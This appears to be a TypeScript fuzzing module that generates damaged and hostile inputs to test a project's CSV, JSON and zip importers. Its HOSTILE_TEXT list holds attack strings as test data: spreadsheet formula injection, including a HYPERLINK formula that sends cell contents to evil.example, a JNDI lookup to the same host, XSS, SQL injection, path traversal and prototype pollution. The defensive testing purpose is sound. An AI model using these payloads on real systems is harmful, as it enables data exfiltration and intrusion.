import { unzipSync, zipSync } from 'fflate';

/**
 * Generated bad input for the importers' fuzz runs: deterministic (a seed gives the same inputs
 * on every machine, so a failure can be replayed from its number) and shaped like the damage real
 * files suffer: cut-off downloads, flipped bytes, wrong encodings, hand-edited structure, and
 * hostile content written on purpose.
 */

export type Random = () => number;

/** mulberry32: tiny, fast and good enough to pick mutations; not for anything secret. */
export function seededRandom(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function pick<T>(random: Random, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)]!;
}

export function between(random: Random, min: number, max: number): number {
  return min + Math.floor(random() * (max - min + 1));
}

/** How large the "huge" inputs grow: small inside `npm test`, full in `npm run bench fuzz`. */
export interface FuzzSize {
  /** Longest generated cell, string or repeated run, in characters. */
  hugeChars: number;
  /** Most repeated rows, records or entries. */
  manyItems: number;
  /** Deepest nesting of generated JSON. */
  deepNesting: number;
}

export const SMALL_FUZZ: FuzzSize = { hugeChars: 20_000, manyItems: 300, deepNesting: 2_000 };
export const FULL_FUZZ: FuzzSize = { hugeChars: 4_000_000, manyItems: 30_000, deepNesting: 200_000 };

export interface Mutated {
  bytes: Uint8Array;
  /** What was done, for the report of a failing input. */
  how: string;
}

const encoder = new TextEncoder();
const decoder = new TextDecoder();

/** Strings people and attackers put in cells and fields. */
export const HOSTILE_TEXT = [
  '=cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+HYPERLINK("http://evil.example/?x="&A1)',
  '-2+3',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"; DROP TABLE agents; --',
  "' OR 1=1 --",
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '\u0000\u0001\u0002\u001b[31mred',
  '\u202eevil\u202c',
  '\ud800',
  '🤖'.repeat(50),
  'Ω≈ç√∫˜µ≤≥÷',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '\r\n\r\n',
  '"',
  '""""',
  ',,,,;;;;\t\t',
  '-'.repeat(64),
  'NaN',
  '1e309',
  '-0',
  '9999-99-99',
  '0000-00-00T25:61:61Z',
];

/** Mutations that apply to any byte string. */
export function mutateBytes(random: Random, input: Uint8Array, size: FuzzSize): Mutated {
  const bytes = Uint8Array.from(input);
  switch (between(random, 0, 8)) {
    case 0: {
      const at = between(random, 0, Math.max(0, bytes.length - 1));
      return { bytes: bytes.slice(0, at), how: `truncated at byte ${at}` };
    }
    case 1: {
      const flips = between(random, 1, 16);
      for (let i = 0; i < flips && bytes.length > 0; i++) {
        const at = between(random, 0, bytes.length - 1);
        bytes[at] = bytes[at]! ^ (1 << between(random, 0, 7));
      }
      return { bytes, how: `${flips} bit flips` };
    }
    case 2: {
      const at = between(random, 0, bytes.length);
      const junk = Uint8Array.from({ length: between(random, 1, 64) }, () => between(random, 0, 255));
      return { bytes: concat(bytes.slice(0, at), junk, bytes.slice(at)), how: `${junk.length} random bytes inserted at ${at}` };
    }
    case 3: {
      const from = between(random, 0, bytes.length - 1);
      const to = Math.min(bytes.length, from + between(random, 1, 256));
      bytes.fill(pick(random, [0x00, 0xff, 0x22, 0x0a]), from, to);
      return { bytes, how: `bytes ${from}-${to} overwritten` };
    }
    case 4: {
      const from = between(random, 0, bytes.length - 1);
      const to = Math.min(bytes.length, from + between(random, 1, 512));
      return { bytes: concat(bytes.slice(0, from), bytes.slice(to)), how: `bytes ${from}-${to} removed` };
    }
    case 5: {
      const from = between(random, 0, bytes.length - 1);
      const chunk = bytes.slice(from, Math.min(bytes.length, from + between(random, 1, 512)));
      const times = between(random, 2, Math.max(2, Math.floor(size.hugeChars / Math.max(1, chunk.length))));
      const out = new Uint8Array(bytes.length + chunk.length * times);
      out.set(bytes);
      for (let i = 0; i < times; i++) out.set(chunk, bytes.length + i * chunk.length);
      return { bytes: out, how: `a ${chunk.length}-byte chunk appended ${times} times` };
    }
    case 6:
      return { bytes: new Uint8Array(0), how: 'empty file' };
    case 7: {
      const length = between(random, 1, size.hugeChars);
      return { bytes: Uint8Array.from({ length }, () => between(random, 0, 255)), how: `${length} random bytes` };
    }
    default: {
      const prefix = pick(random, [[0xef, 0xbb, 0xbf], [0xff, 0xfe], [0xfe, 0xff], [0x50, 0x4b, 0x03, 0x04], [0x1f, 0x8b], [0x7b]]);
      return { bytes: concat(Uint8Array.from(prefix), bytes), how: `prefixed with ${prefix.map((b) => b.toString(16)).join(' ')}` };
    }
  }
}

/** Mutations of a text's lines and characters (CSV, JSON and XML alike). */
export function mutateText(random: Random, text: string, size: FuzzSize): { text: string; how: string } {
  const lines = text.split('\n');
  switch (between(random, 0, 9)) {
    case 0: {
      const at = between(random, 0, lines.length - 1);
      lines.splice(at, 1);
      return { text: lines.join('\n'), how: `line ${at + 1} removed` };
    }
    case 1: {
      const at = between(random, 0, lines.length - 1);
      // At most about four huge strings' worth: a compact JSON export is one 50 KB line, and
      // 30,000 copies of it made a string longer than V8 allows.
      const times = between(random, 2, Math.min(size.manyItems, Math.max(2, Math.floor((size.hugeChars * 4) / Math.max(1, lines[at]!.length)))));
      lines.splice(at, 0, ...Array.from({ length: times }, () => lines[at]!));
      return { text: lines.join('\n'), how: `line ${at + 1} repeated ${times} times` };
    }
    case 2: {
      const at = between(random, 0, text.length);
      const hostile = pick(random, HOSTILE_TEXT);
      return { text: text.slice(0, at) + hostile + text.slice(at), how: `hostile text ${JSON.stringify(hostile.slice(0, 20))} at ${at}` };
    }
    case 3: {
      const at = between(random, 0, text.length);
      const length = between(random, 1, size.hugeChars);
      return { text: text.slice(0, at) + pick(random, ['A', 'é', '"', '<', '[', '0']).repeat(length) + text.slice(at), how: `${length}-character run at ${at}` };
    }
    case 4: {
      const at = between(random, 0, text.length);
      return { text: text.slice(0, at), how: `text cut at ${at}` };
    }
    case 5: {
      const from = pick(random, [',', ';', '"', ':', '<', '>', '{', '}', '[', ']', '=']);
      const to = pick(random, [',', ';', '\t', '"', '', '\u0000', '\r', '\n', '\\']);
      return { text: text.split(from).join(to), how: `every ${JSON.stringify(from)} replaced by ${JSON.stringify(to)}` };
    }
    case 6: {
      const a = between(random, 0, lines.length - 1);
      const b = between(random, 0, lines.length - 1);
      [lines[a], lines[b]] = [lines[b]!, lines[a]!];
      return { text: lines.join('\n'), how: `lines ${a + 1} and ${b + 1} swapped` };
    }
    case 7:
      return { text: text.replace(/\n/g, pick(random, ['\r\n', '\r', '\u2028', '\n\n'])), how: 'line endings changed' };
    case 8: {
      const at = between(random, 0, lines.length - 1);
      lines[at] = Array.from({ length: between(random, 2, 400) }, () => pick(random, HOSTILE_TEXT)).join(pick(random, [',', ';', '\t']));
      return { text: lines.join('\n'), how: `line ${at + 1} replaced by hostile cells` };
    }
    default: {
      const digits = text.replace(/\d/g, () => String(between(random, 0, 9)));
      return { text: digits, how: 'every digit randomised' };
    }
  }
}

export function mutateTextBytes(random: Random, input: Uint8Array, size: FuzzSize): Mutated {
  const { text, how } = mutateText(random, decoder.decode(input), size);
  return { bytes: encoder.encode(text), how };
}

/** JSON that is well-formed but hostile in shape: deep, wide, wrong types. */
export function hostileJson(random: Random, size: FuzzSize): { text: string; how: string } {
  switch (between(random, 0, 4)) {
    case 0: {
      const depth = between(random, 10, size.deepNesting);
      return { text: '['.repeat(depth) + ']'.repeat(depth), how: `arrays nested ${depth} deep` };
    }
    case 1: {
      const depth = between(random, 10, size.deepNesting);
      return { text: '{"a":'.repeat(depth) + '1' + '}'.repeat(depth), how: `objects nested ${depth} deep` };
    }
    case 2:
      return { text: JSON.stringify(Array.from({ length: size.manyItems }, (_, i) => ({ id: `X-${i}` }))), how: `${size.manyItems} records with only an id` };
    case 3:
      return { text: pick(random, ['null', '0', '"text"', 'true', '[]', '{}', '[null]', '{"id":null,"affected":null}', '{"__proto__":{"polluted":1},"id":"A","affected":[]}']), how: 'a JSON value of the wrong kind' };
    default:
      return { text: `{"id":"${'A'.repeat(between(random, 1, size.hugeChars))}","affected":[]}`, how: 'an enormous id' };
  }
}

/**
 * Mutations of a zip container (XLSX, OSV zip) at the level of its entries: a damaged or
 * hostile part inside an archive that is itself intact, which byte flips almost never reach.
 */
export function mutateZipEntries(random: Random, input: Uint8Array, size: FuzzSize, mutatePart: (random: Random, name: string, bytes: Uint8Array) => Mutated): Mutated {
  let entries: Record<string, Uint8Array>;
  try {
    entries = unzipSync(input);
  } catch {
    return mutateBytes(random, input, size);
  }
  const names = Object.keys(entries);
  switch (between(random, 0, 4)) {
    case 0: {
      const name = pick(random, names);
      delete entries[name];
      return { bytes: zipSync(entries), how: `entry ${name} removed` };
    }
    case 1: {
      entries[`nested-${between(random, 0, 99)}.zip`] = zipSync({ 'inner.json': encoder.encode('{"id":"NESTED","affected":[]}') });
      return { bytes: zipSync(entries), how: 'a nested zip added' };
    }
    case 2: {
      const count = between(random, 2, size.manyItems);
      for (let i = 0; i < count; i++) entries[`extra/${i}.bin`] = Uint8Array.of(i & 0xff);
      return { bytes: zipSync(entries), how: `${count} extra entries` };
    }
    default: {
      const name = pick(random, names);
      const part = mutatePart(random, name, entries[name]!);
      entries[name] = part.bytes;
      return { bytes: zipSync(entries), how: `${name}: ${part.how}` };
    }
  }
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

type Container = Record<string, unknown> | unknown[];
export interface Slot {
  parent: Container;
  key: string | number;
}

/** Every place in a parsed document a value sits (object fields and array items, depth first): where structured fuzzers retype, remove or replace a value. */
export function slotsOf(root: unknown): Slot[] {
  const slots: Slot[] = [];
  const walk = (value: unknown) => {
    if (!value || typeof value !== 'object') return;
    for (const key of Array.isArray(value) ? value.keys() : Object.keys(value)) {
      slots.push({ parent: value as Container, key });
      walk((value as Record<string | number, unknown>)[key]);
    }
  };
  walk(root);
  return slots;
}
